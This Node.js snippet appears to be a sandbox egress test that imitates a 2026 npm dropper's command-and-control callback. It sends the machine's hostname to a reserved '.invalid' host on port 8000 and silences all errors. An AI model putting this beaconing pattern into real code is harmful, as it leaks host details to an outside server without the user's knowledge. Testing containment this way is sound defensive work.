// P6 in Node: the axios/plain-crypto-js dropper (2026) talked to its C2 on port 8000, not 80/443.
// The name is reserved; the sandbox's DNS answers with the sink address, which listens on 80 and
// 443 only, so this connection is refused inside the sandbox.
const http = require('http');
const os = require('os');
http.get({ host: 'sfrclak.invalid', port: 8000, path: `/6202033?h=${os.hostname()}`, timeout: 3000 }, (res) => res.resume())
  .on('error', () => {})
  .on('timeout', function () { this.destroy(); });
